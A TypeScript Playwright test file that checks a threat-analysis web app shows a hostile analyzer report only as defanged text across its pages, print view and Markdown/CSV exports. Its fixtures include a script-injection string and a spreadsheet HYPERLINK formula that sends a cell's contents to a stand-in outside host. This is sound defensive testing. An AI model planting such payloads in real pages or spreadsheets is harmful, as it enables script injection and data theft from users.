import { readFile } from 'node:fs/promises'
import type { Job } from '@assay/contract'
import type { Page } from 'playwright-core'
import { beforeAll, expect, it } from 'vitest'
import { describeJourneys } from './bed.ts'
import { enableAnalyzers, makeOrganization, runToEnd } from './people.ts'

const formula = '=HYPERLINK("https://outside.example/?"&A1,"open")'
const script = '<script>window.pwned=1</script>'

/** What must not be there, whatever the report says. Dialogs and requests are seen by every visit. */
const misdeeds = (page: Page) =>
  page.evaluate(() => {
    const found: string[] = []
    if ('pwned' in window) found.push('a script of the report ran')
    const reaching = 'a[href], img[src], iframe, object, embed, form[action], [style*="url("]'
    for (const element of document.querySelectorAll(reaching)) {
      const address = element.getAttribute('href') ?? element.getAttribute('src') ?? 'none'
      const { origin } = new URL(address, location.href)
      if (origin !== location.origin) found.push(element.outerHTML.slice(0, 300))
    }
    const foreign = document.querySelectorAll('body script:not([src]), [onerror], [onload]')
    for (const element of foreign) found.push(element.outerHTML.slice(0, 300))
    return found
  })

/** What is to be read, also by screen readers. */
const texts = (page: Page) =>
  page.evaluate(() => {
    const labels = [...document.querySelectorAll('[aria-label]')]
    return [
      document.title,
      document.body.innerText,
      ...labels.map((element) => element.getAttribute('aria-label')),
    ].join('\n')
  })

/** An address that works, or a sign that turns or hides what follows. */
const live = /(?:https?:\/\/outside|javascript:|(?![\n\r\t])[\p{Cc}\p{Cf}]).{0,40}/giu

async function expectDefanged(page: Page, { isRaw = false } = {}) {
  expect(await misdeeds(page), page.url()).toEqual([])
  const found = (await texts(page)).match(live) ?? []
  // The raw report is the report: its addresses are not links, but they are not defanged.
  expect(isRaw ? found.filter((part) => /^[^hj]/i.test(part)) : found, page.url()).toEqual([])
}

/** RFC 4180. */
function cellsOf(csv: string): string[] {
  const cells = csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)
  return [...cells].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '')
}

/** Markdown without its pieces of code, in which nothing is markup. */
const withoutCode = (markdown: string) =>
  markdown.replace(/(?<!`)(`+)(?!`)(?:.*?[^`])?\1(?!`)/g, '[code]')

describeJourneys('a hostile report', {}, (bed) => {
  let hostile: Job
  let asFormula: Job
  let failed: Job
  beforeAll(async () => {
    const { oa, ana } = await makeOrganization(bed.server)
    const { Hostile } = await enableAnalyzers(bed.server, oa, ['Hostile'])
    const run = (dataType: string, data: string) =>
      runToEnd(bed.server, ana, Hostile, { dataType, data, message: `${script} ${formula}` })
    hostile = await run('url', 'https://outside.example/login')
    asFormula = await run('other', formula)
    failed = await run('url', 'https://outside.example/fail')
  })

  async function save(page: Page, item: string): Promise<string> {
    await page.getByRole('button', { name: 'Export' }).click()
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('dialog', { name: 'Export' }).getByRole('button', { name: item }).click(),
    ])
    // The byte order mark by which spreadsheets recognize UTF-8 is not a hidden character.
    return (await readFile(await download.path(), 'utf8')).replace(/^\ufeff/, '')
  }

  it('journey 20: is text in all parts and in print', async () => {
    const { page, open, axe, fits } = await bed.visit('ana')
    const parts = page.getByRole('group', { name: 'Parts of the report' })

    await open(`/jobs/${hostile.id}`)
    const drawer = page.getByRole('dialog')
    for (const [part, shown] of [
      ['Summary', 'hxxps://outside[.]example/'],
      [/^Observables found/, 'hxxps://outside[.]example/d.png'],
      ['Raw', 'https://outside.example/path?q=1'],
    ] as const) {
      await parts.getByText(part).click()
      await drawer.getByText(shown).first().waitFor()
      await expectDefanged(page, { isRaw: part === 'Raw' })
      await axe()
      await fits()
    }
    await parts.getByText('Summary').click()
    await page.getByText('All fields', { exact: true }).click()
    await drawer.getByText('hxxps://outside[.]example/path?q=1').first().waitFor()
    await page.locator('summary').getByText('Details', { exact: true }).last().click()
    await drawer.getByText(script).first().waitFor()
    await expectDefanged(page)
    await axe()
    await fits()
    await page.emulateMedia({ media: 'print' })
    // The page behind it still exists, but is not printed.
    const printed = page.getByText('hxxps://outside[.]example/path?q=1').filter({ visible: true })
    await printed.first().waitFor()
    expect(await texts(page)).toContain(script)
    await expectDefanged(page)
  })

  it('leads outside only through a second step, which names the host', async () => {
    const { page, open } = await bed.visit('ana')
    await open(`/jobs/${hostile.id}`)
    await page.getByText('All fields', { exact: true }).click()

    await page
      .getByRole('button', { name: /^Open hxxps.*path/ })
      .first()
      .click()

    const dialog = page.getByRole('dialog', { name: 'Open an address from the report?' })
    await dialog.getByText('outside.example', { exact: true }).waitFor()
    const way = dialog.getByRole('link', { name: 'Open in a new tab' })
    expect(await way.getAttribute('href')).toBe('https://outside.example/path?q=1')
    expect(await way.getAttribute('rel')).toBe('noopener noreferrer')
    await dialog.getByRole('button', { name: 'Cancel' }).click()
    expect(await misdeeds(page)).toEqual([])
  })

  it('journey 20: leaves as Markdown and CSV without a link, a tag or a formula', async () => {
    const { page, open } = await bed.visit('ana')
    await open(`/jobs/${hostile.id}`)

    const markdown = await save(page, 'Markdown, defanged')
    const csv = await save(page, 'CSV of the artifacts')

    expect(markdown).toContain('hxxps://outside[.]example/path?q=1')
    expect(markdown.match(live) ?? []).toEqual([])
    expect(withoutCode(markdown)).not.toMatch(/[<>]|hxxp|outside|\]\(|!\[/)
    expect(cellsOf(csv).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    expect(cellsOf(csv)).toContain(`'${formula.replace('https://outside.', 'hxxps://outside[.]')}`)
    expect(csv.match(live) ?? []).toEqual([])
  })

  it('leaves the list of jobs so, too', async () => {
    const { page, open } = await bed.visit('ana')
    await open('/activity')
    await page.getByRole('checkbox', { name: 'Select all on this page' }).check()

    const csv = await save(page, 'CSV')
    const markdown = await save(page, 'Markdown, defanged')

    expect(cellsOf(csv).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    expect(cellsOf(csv)).toContain(`'${formula}`)
    expect(markdown.match(live) ?? []).toEqual([])
    expect(markdown.replace(/\\./g, '')).not.toMatch(/[<>]|\]\(|!\[/)
  })

  it('is text wherever else it is shown, and so is a failure', async () => {
    const { page, open, go, fits } = await bed.visit('ana')
    const { workerId } = hostile
    await open('/settings/account')
    for (const [address, shown] of [
      ['/activity', 'HYPERLINK'],
      ['/activity?status=Failure', 'HYPERLINK'],
      [`/jobs/${failed.id}`, 'HYPERLINK'],
      ['/observables?type=url&value=https://outside.example/login', 'HYPERLINK'],
      ['/observables?type=url&value=https://outside.example/fail', 'window.pwned'],
      [`/compare?a=${hostile.id}&b=${asFormula.id}&all=1`, 'HYPERLINK'],
      [`/compare?a=${hostile.id}&b=${failed.id}`, 'HYPERLINK'],
      ['/', 'HYPERLINK'],
      [`/settings/analyzers/${workerId}`, 'window.pwned'],
    ] as const) {
      // What was shown before must be gone first.
      await go('/settings/account')
      await page.getByRole('heading', { level: 1, name: 'Account' }).waitFor()
      await go(address)
      await page.getByText(shown).first().waitFor()
      await expectDefanged(page)
      await fits()
    }
  })
})
